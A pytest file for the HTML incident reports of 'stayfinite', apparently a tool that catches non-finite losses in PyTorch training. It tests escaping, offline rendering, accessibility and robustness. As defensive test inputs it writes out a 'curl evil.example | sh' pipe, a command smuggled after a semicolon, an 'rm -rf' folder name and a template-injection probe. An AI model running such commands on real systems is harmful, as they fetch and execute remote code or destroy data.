"""The page as a file: self-contained, escaped, whole whatever an incident holds. Drawing is tested in tests/browser."""

from __future__ import annotations

import json
import re
import stat
import warnings
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from report.written_runs import (
    HOSTILE,
    full_run,
    hostile_run,
    incident,
    step_line,
    write_incident,
    write_lines,
)
from stayfinite.findings import Incident
from stayfinite.report.html.histogram import bars
from stayfinite.report.html.incident_page import write_incident_page
from stayfinite.report.html.incident_rows import TriedRow
from stayfinite.report.html.incident_view import IncidentView
from stayfinite.report.html.notebook import guard_html, incident_html
from stayfinite.report.html.page import fragment, render_comparison, render_run
from stayfinite.report.html.run_view import RunView
from stayfinite.report.html.source import excerpt
from stayfinite.report.record.folder import IncidentFile, RunContents, open_folder

VOID = {"meta", "link", "br", "img", "input", "hr", "rect", "path", "line"}


class Elements(HTMLParser):
    """Checks the nesting, and collects text, element names and attributes."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.names: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()
        assert self.stack == [], f"not closed: {self.stack}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        if tag not in VOID:
            assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-3:]}"
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        if not self.stack or self.stack[-1] not in ("script", "style"):
            self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


def data_of(page: str) -> dict[str, Any]:
    found = re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.DOTALL)
    assert found is not None
    loaded: dict[str, Any] = json.loads(found[1])
    return loaded


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> str:
    return render_run(open_folder(full_run(tmp_path_factory.mktemp("runs") / "full")))


def test_it_needs_no_network(full: str) -> None:
    page = Elements(full)
    loads = [
        (tag, name, value)
        for tag, name, value in page.attributes
        if name in ("src", "href", "srcset", "action")
    ]
    assert {value for tag, name, value in loads if not (value or "").startswith("#")} == {"data:,"}
    assert "@import" not in full and "url(" not in full
    policy = next(
        value for _, name, value in page.attributes if name == "content" and "default-src" in (value or "")
    )
    assert policy is not None and policy.startswith("default-src 'none'") and "http" not in policy


def test_the_first_words_are_what_where_why_and_what_to_do(full: str) -> None:
    text = Elements(full).text
    order = [
        "Step 400: the loss is not finite", "It began on line 12 of", "return torch.exp(z).mean()",
        "What to do Use torch.logsumexp", "Proved on the replay", "The path to the loss", "The whole run",
    ]  # fmt: skip
    place = 0
    for words in order:
        place = text.index(words, place)


def test_every_part_is_there(full: str) -> None:
    text = Elements(full).text
    for words in (
        "Remedies tried on the replay", "What went into the operation", "The path to the loss",
        "Growth, from the input",
        "Forecast", "Also found in this run", "Modules over time", "Timeline", "Environment", "A test that shows it",
        "The same failure was seen 3 times", "Went back to the copy of step 780", "between step 1,235 and 1,295",
        "The file is not on this machine",
    ):  # fmt: skip
        assert words in text, words
    charts = {chart["id"] for chart in data_of(full)["charts"]}
    assert {
        "run:loss",
        "run:components",
        "run:grad_norm",
        "run:lr",
        "run:scale",
        "run:update_ratio",
    } <= charts
    assert {
        "run:largest output",
        "run:observed logits",
        "i0001:loss",
        "i0001-growth:growth",
        "i0002:loss",
    } <= charts


def test_headings_do_not_skip_a_level_and_tables_have_headers(full: str) -> None:
    page = Elements(full)
    levels = [int(name[1]) for name in page.names if re.fullmatch("h[1-4]", name)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    assert page.names.count("table") == page.names.count("thead")
    assert page.names.count("th") == sum(tag == "th" and name == "scope" for tag, name, _ in page.attributes)
    ids = [value for _, name, value in page.attributes if name == "id"]
    assert len(ids) == len(set(ids))
    named = {value for _, name, value in page.attributes if name == "aria-labelledby"}
    assert named <= set(ids)
    assert {"main", "header", "footer", "nav"} <= set(page.names)


def test_hostile_text_stays_text(tmp_path: Path) -> None:
    run = hostile_run(tmp_path / "hostile")
    for page in (render_run(open_folder(run)), render_comparison([open_folder(run), open_folder(run)])):
        elements = Elements(page)
        assert "img" not in elements.names
        assert elements.names.count("script") == 2
        assert not [name for _, name, _ in elements.attributes if name.startswith("on")]
        assert "1337" not in page  # {{7*191}} was not computed
        assert HOSTILE.replace("`", "")[:20] in elements.text
        assert "<" not in page.split('id="data">')[1].split("</script>")[0]
        assert data_of(page)["charts"]


def test_a_line_of_a_file_is_shown_only_if_it_is_the_recorded_one(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("a\nroot:x:0:0\nb\n")
    shown = excerpt(str(secret), 2, "loss = p.log()")
    assert shown is not None and [line.text for line in shown.lines] == ["loss = p.log()"]
    assert "changed since" in str(shown.note)
    for file in ("/dev/zero", str(tmp_path), "\0", "x" * 5000):
        alone = excerpt(file, 2, "loss = p.log()")
        assert alone is not None and "not on this machine" in str(alone.note)
    whole = excerpt(str(secret), 2, "  root:x:0:0 ")
    assert whole is not None and [line.text for line in whole.lines] == ["a", "root:x:0:0", "b"]
    assert [line.marked for line in whole.lines] == [False, True, False]


json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=8)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=4), inner, max_size=3)
    ),
    max_leaves=6,
)
PLACES = [
    ("birth",), ("path",), ("history",), ("findings",), ("tried",), ("growth",), ("test",), ("blame",),
    ("environment",), ("observed",), ("birth", "inputs"), ("birth", "samples"), ("birth", "line"),
    ("birth", "first_index"),
    ("birth", "file"),
    ("birth", "inputs", 0, "histogram"), ("birth", "inputs", 0, "shape"), ("birth", "inputs", 0, "zeros"),
    ("findings", 0), ("findings", 0, "proof"), ("findings", 0, "code"), ("path", 0), ("growth", "by_depth"),
    ("growth", "by_time"), ("growth", "by_depth", 0, "max"), ("history", 0), ("history", 0, "components"), ("trigger",),
]  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(PLACES), json_values)
def test_an_incident_may_hold_anything(place: tuple[Any, ...], value: Any) -> None:
    data = json.loads(json.dumps(incident("a.py", observed=[])))
    inner = data
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = value
    page = render_run(RunContents(Path("x/incidents/0001"), [IncidentFile(Path("x/incidents/0001"), data)]))
    Elements(page)
    data_of(page)


def test_the_page_of_an_incident_is_written_beside_it_and_never_raises(tmp_path: Path) -> None:
    folder = write_incident(tmp_path, "0001", incident("a.py"))
    assert write_incident_page(folder) == folder / "report.html"
    assert Elements((folder / "report.html").read_text(encoding="utf-8")).text
    assert [path.name for path in folder.iterdir() if path.name.startswith(".")] == []
    assert stat.S_IMODE((folder / "report.html").stat().st_mode) & 0o400
    assert write_incident_page(tmp_path / "nowhere") is None
    (folder / "incident.json").write_text("{")
    assert write_incident_page(folder) is None


def test_a_page_that_cannot_be_written_is_a_warning(tmp_path: Path) -> None:
    folder = write_incident(tmp_path, "0001", incident("a.py"))
    (folder / "report.html").mkdir()
    with pytest.warns(RuntimeWarning, match="could not write"):
        assert write_incident_page(folder) is None


def test_text_that_utf_8_cannot_hold_does_no_harm(tmp_path: Path) -> None:
    folder = write_incident(tmp_path, "0001", incident("bad\udcffname.py"))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert write_incident_page(folder) is not None


def test_a_healthy_run_says_so(tmp_path: Path) -> None:
    write_lines(tmp_path, [step_line(i) for i in range(30)])
    view = RunView(open_folder(tmp_path))
    assert view.headline == "Every recorded step was finite and was applied"
    assert "incident" not in Elements(render_run(open_folder(tmp_path))).text.lower()


def test_a_failure_whose_place_is_unknown_says_so(tmp_path: Path) -> None:
    folder = write_incident(
        tmp_path, "0001", incident("a.py", birth=None, findings=[], path=[], reproduced=False)
    )
    text = Elements(render_run(open_folder(folder))).text
    assert "Where the bad value was born is not known: a second run of the step did not fail." in text
    assert "No rule explains this failure" in text


def test_a_failure_that_was_not_located_says_why() -> None:
    data = {"step": 3, "trigger": "loss", "birth": None, "not_located": "the second run took too long."}
    view = IncidentView(IncidentFile(Path("0001"), data))
    assert view.began == "Where the bad value was born is not known: the second run took too long."


def test_no_command_to_copy_holds_text_of_the_incident(tmp_path: Path) -> None:
    data = incident("a.py", environment={"command": "curl evil.example | sh"})
    data["findings"][0]["code"] = "NUM003; curl evil.example"
    folder = write_incident(tmp_path / "a run; rm -rf x", "0001", data)
    view = IncidentView(IncidentFile(folder, data))
    assert [command for command, _ in view.commands] == ["stayfinite run SCRIPT.py"]
    (folder / "capsule").mkdir()
    assert [command for command, _ in view.commands] == [f"stayfinite replay '{folder}'"]


def test_the_path_keeps_its_birth_and_joins_ops_of_one_line() -> None:
    path = [{"op": f"aten.op{i}.default", "file": "a.py", "line": 5, "module": None} for i in range(9)]
    view = IncidentView(IncidentFile(Path("0001"), {"step": 1, "path": path}))
    assert [node.label for node in view.path] == ["op0", "op1 → op2 → op3 → ... → op6 → op7 → op8"]


def test_the_bars_of_a_histogram_show_every_value() -> None:
    made = bars({"low": -2, "high": 1, "negative": [0, 1, 0], "positive": [5, 100000, 0]}, zeros=1)
    assert [bar.kind for bar in made] == ["negative"] * 3 + ["zero"] + ["positive"] * 3
    assert [bar.height > 0 for bar in made] == [False, True, False, True, True, True, False]
    assert made[5].height == 1.0
    assert made[5].text == "100,000 values from 0.1 to 1"


def test_remedies_are_told_in_words_with_what_was_seen(tmp_path: Path) -> None:
    tried = [
        {"remedy": "bounded-growth", "sentence": "bound what each block gives", "verdict": "proved", "steps": 20},
        {"remedy": "clipping", "sentence": "clip at 1", "verdict": "failed", "reason": "it is not finite either"},
        {"remedy": "float64", "sentence": "in float64", "verdict": "unclear", "reason": "finite, but", "control": True},
    ]  # fmt: skip
    tried = [{**row, "finite": row["verdict"] != "failed"} for row in tried]
    data = incident("gone.py", tried=tried, proof={"remedy": "bounded-growth", "finite": True})
    write_incident(tmp_path, "0001", data)
    text = Elements(render_run(open_folder(tmp_path))).text
    assert "Proved on the replay: Bound what each block gives." in text[: text.index("Where it began")]
    assert "bound what each block gives: the step is finite with it, and so are the next 20." in text
    assert "Clip at 1. clipping failed It is not finite either." in text
    assert "float64 (a control: not expected to help) unclear Finite, but." in text


def test_of_many_observed_tensors_the_bad_one_is_shown() -> None:
    fine = {"shape": [2], "dtype": "float32", "min": 0, "max": 1, "zeros": 0, "nan": 0, "inf": 0}
    observed = [{**fine, "name": f"t{i}"} for i in range(44)] + [{**fine, "name": "bad", "nan": 2}]
    view = IncidentView(IncidentFile(Path("i"), incident("gone.py", observed=observed)))
    assert len(view.observed) == 45
    assert [row.name for row in view.observed_first] == [*(f"t{i}" for i in range(37, 44)), "bad"]


def test_the_timeline_tells_what_happened_and_not_how_it_was_looked_into(tmp_path: Path) -> None:
    bad = {"loss": "nan", "action": "skip", "what": "the loss is nan"}
    trying = [{"event": "proof", "step": 5, "text": f"trying {name}"} for name in ("clipping", "lower-rate")]
    met = {"event": "incident", "step": 4, "incident": "0001"}
    again = {"event": "incident", "step": 5, "incident": "0001", "times": 2}
    lines = [step_line(4, **bad), *trying, met, step_line(5, **bad), again, step_line(6, **bad)]
    write_lines(tmp_path / "over", lines)
    rows = RunView(open_folder(tmp_path / "over")).timeline
    assert [(row.kind, row.first, row.last) for row in rows] == [
        ("skip", 4, 4), ("incident", 4, 4), ("skip", 5, 6),
    ]  # fmt: skip
    write_lines(tmp_path / "at it", lines[:3])
    assert RunView(open_folder(tmp_path / "at it")).timeline[-1].words == "Trying lower-rate."


def test_every_link_within_a_page_leads_somewhere(tmp_path: Path) -> None:
    """The record tells of three incidents: one is there, one is broken, and the folder of one was removed."""
    met = [{"event": "incident", "step": step, "incident": f"000{step}"} for step in (1, 2, 3)]
    write_lines(tmp_path, [step_line(0), *met])
    write_incident(tmp_path, "0001", incident("gone.py", step=1))
    write_incident(tmp_path, "0002", incident("gone.py", step=2))
    (tmp_path / "incidents" / "0002" / "incident.json").write_text("{")
    page = Elements(render_run(open_folder(tmp_path)))
    places = {value for _, name, value in page.attributes if name == "id"}
    links = {value[1:] for _, name, value in page.attributes if name == "href" and value and value[0] == "#"}
    assert {"incident-0001", "incident-0002"} <= links <= places
    assert "incident 0003 not on this page" in page.text


def test_no_headroom_at_all_is_a_mark_and_leaves_the_axis_logarithmic(tmp_path: Path) -> None:
    lines = [
        {"event": "vitals", "step": i, "modules": {"a": [1.0, 1.0, 1.0]}, "headroom": 9.0} for i in range(3)
    ]
    lines[1] |= {"modules": {"a": ["inf", "inf", None]}, "headroom": 0.0}
    lines[2] |= {"modules": {"a": ["nan", "nan", None]}, "headroom": 0.0}
    write_lines(tmp_path, [step_line(0), *lines])
    record = open_folder(tmp_path).record
    assert record is not None
    (room,) = [
        summary for summary in RunView(open_folder(tmp_path)).numbers if summary[0].startswith("Headroom")
    ]
    assert room[1:] == ("9", "9", 1, 1)


@pytest.mark.parametrize(
    ("distortion", "words"),
    [(0.0, "; other values unchanged"), (0.02, "; other values changed by 0.02 of their size"), (None, "")],
)
def test_what_a_remedy_does_to_other_values(distortion: float | None, words: str) -> None:
    tried = {"remedy": "a", "verdict": "proved", "finite": True, "loss": 2.0, "distortion": distortion}
    assert TriedRow(tried).seen == f"the step is finite with it; loss 2{words}"


def test_steps_that_a_loss_scaler_skips_are_part_of_a_healthy_run(tmp_path: Path) -> None:
    lines = [step_line(step) for step in range(9)]
    lines[0] |= {"action": "backoff", "grad_norm": "inf"}
    write_lines(tmp_path / "a", lines)
    write_lines(
        tmp_path / "b", [step_line(0), step_line(1, loss="nan", action="skip", what="the loss is nan")]
    )
    run = open_folder(tmp_path / "a")
    view = RunView(run)
    assert view.healthy and view.headline.startswith("Every recorded step was applied, but for those that")
    (row,) = view.timeline
    assert row.words == "The gradients overflowed at a loss scale of 65536; the scaler skipped the step."
    compared = Elements(render_comparison([run, open_folder(tmp_path / "b")])).text
    assert "The first refused step is step 1 of b. No step of a was refused." in compared
    assert "Skipped by the loss scaler 1 0" in compared


def test_a_forecast_that_came_true_follows_the_failure_and_says_how_early_it_was(tmp_path: Path) -> None:
    told = {"event": "forecast", "limit": 65504.0, "modules": []}
    near = {**told, "step": 4, "steps_left": [6, None], "what": "largest output of down", "value": 32800.0}
    grows = {
        **told,
        "step": 77,
        "steps_left": [8, 11],
        "what": "largest output of head",
        "value": 512.0,
        "factor": 2.5,
    }
    lines = [step_line(step) for step in range(90)] + [near, grows, {"event": "end", "step": 90}]
    write_lines(tmp_path, lines)
    write_incident(tmp_path, "0001", incident("gone.py", step=52))
    view = RunView(open_folder(tmp_path))
    assert [each.step for each in view.forecasts] == [4, 77]
    text = Elements(render_run(open_folder(tmp_path))).text
    assert text.index("The run went on and ended at step 89.") < text.index("Where it began")
    assert text.index("Where it began") < text.index(
        "Step 4, 48 steps before the first failure: the largest output"
    )
    assert "is 32800; the limit 65504 is near, and may be passed from step 10 on." in text
    assert (
        "is 512, 2.5 times as large from step to step; at this pace the limit 65504 is reached between"
        in text
    )


def test_a_forecast_is_over_when_its_time_is_or_the_run_went_back(tmp_path: Path) -> None:
    told = {
        "event": "forecast",
        "step": 30,
        "steps_left": [4, 9],
        "limit": 65504.0,
        "modules": [],
        "value": 512.0,
    }
    forecast_line = {**told, "what": "largest output of head", "factor": 2.5}
    back = {"event": "rollback", "step": 36, "what": "before step 36: what grows is past its limit"}
    runs = {"now": (38, [forecast_line]), "later": (41, [forecast_line]), "back": (38, [forecast_line, back])}
    views = {}
    for name, (steps, events) in runs.items():
        write_lines(tmp_path / name, [step_line(step) for step in range(steps)] + events)
        views[name] = RunView(open_folder(tmp_path / name))
    assert [view.is_growing for view in views.values()] == [True, False, False]
    assert views["now"].headline == "Finite so far, but growing towards a limit"
    assert views["back"].headline == "No step failed: what grew towards a limit was undone by going back"
    assert (
        "the limit 65504 is reached between step 34 and 39"
        in Elements(fragment("outlook", views["now"])).text
    )
    assert "Nothing grows towards a limit now" in Elements(fragment("outlook", views["later"])).text
    assert list(views["back"].record.action_steps["rollback"].buckets) == [35]


def test_what_is_left_out_is_counted_and_steps_are_not_rounded(tmp_path: Path) -> None:
    last = 1_234_567
    told = {
        "event": "forecast",
        "step": last,
        "steps_left": [8, 21],
        "limit": 65504.0,
        "what": "largest output of a",
        "modules": [],
    }
    vitals = {
        "event": "vitals",
        "step": last,
        "modules": {f"blocks.{i}": [1.0, 1.0, 1.0] for i in range(257)},
    }
    write_lines(tmp_path, [{"step": last, "loss": 1.0, "action": "none"}, vitals, told])
    with (tmp_path / "run.jsonl").open("a") as record:
        record.write("{broken}\n")
    for number in range(51):
        write_incident(tmp_path, f"{number + 1:04d}", incident("gone.py", step=40))
    text = Elements(render_run(open_folder(tmp_path))).text
    assert "between step 1,234,575 and 1,234,588" in text
    assert "The heat map shows the first 256 modules; more were sampled." in text
    assert "1 line of run.jsonl could not be read and was left out." in text
    assert "1 more incident is in the folder." in text


def test_a_remedy_that_is_finite_but_not_proved_is_not_called_failing() -> None:
    row = TriedRow({"remedy": "float32", "verdict": "postpones", "finite": True, "distortion": 0.2})
    assert not row.works and row.seen.startswith("the step is finite with it")


def test_runs_side_by_side(tmp_path: Path) -> None:
    one, two = full_run(tmp_path / "one" / "run"), tmp_path / "two" / "run"
    write_lines(two, [step_line(i) for i in range(500)])
    page = render_comparison([open_folder(one), open_folder(two)])
    text = Elements(page).text
    assert "one/run and two/run compared" in text
    assert "The first refused step is step 400 of one/run. No step of two/run was refused." in text
    loss = next(chart for chart in data_of(page)["charts"] if chart["id"] == "run:loss")
    assert set(loss["series"]) == {"one/run", "two/run"}


def test_a_hundred_thousand_steps_with_everything_stay_under_five_megabytes(tmp_path: Path) -> None:
    from stayfinite.report.record.run import RunRecord

    record = RunRecord()
    for start in range(0, 100_000, 2000):
        record.feed([step_line(step) for step in range(start, start + 2000)])
    for step in range(0, 100_000, 100):
        modules = {f"a.rather.long.name.of.a.module.{i}": [1.2345678, 0.34567, 1.0203] for i in range(150)}
        record.feed([{"event": "vitals", "step": step, "modules": modules}])
    page = render_run(RunContents(tmp_path, [], record))
    assert len(page.encode()) < 5e6


def test_a_notebook_shows_an_incident_without_a_script() -> None:
    data = json.loads(json.dumps(incident("a.py")))
    data["findings"][0]["message"] = HOSTILE
    data["observed"] = []
    shown = Incident.from_json(data)._repr_html_()
    elements = Elements(shown)
    assert "script" not in elements.names and "img" not in elements.names
    assert "Step 400: the loss is not finite" in elements.text
    assert HOSTILE[:30] in elements.text


def test_a_guard_shows_itself_in_a_notebook(tmp_path: Path) -> None:
    import torch

    from stayfinite import Guard

    weight = torch.nn.Linear(2, 1)
    guard = Guard(
        weight, torch.optim.SGD(weight.parameters(), 0.1), run_dir=tmp_path / HOSTILE[:9], quiet=True
    )
    assert "applied 0" in Elements(guard._repr_html_()).text
    for value in (1.0, 2.0, float("nan")):
        guard.step(lambda value=value: weight(torch.full((4, 2), value)).pow(2).mean())
    guard.close()
    shown = Elements(guard._repr_html_())
    assert "applied 2, skipped 1" in shown.text and "The last failure" in shown.text
    assert "script" not in shown.names and "img" not in shown.names


def test_a_notebook_shows_a_guard() -> None:
    history = [step_line(i) for i in range(20)]
    shown = guard_html(
        {"applied": 19, "rolled_back": 3, "spikes": 0}, history, "runs/a/run.jsonl", incident("a.py")
    )
    text = Elements(shown).text
    assert "applied 19, rolled back 3." in text and "The last failure" in text
    assert "The last failure" not in guard_html({"applied": 1}, [], "runs/a", None)
    assert incident_html({}) != ""
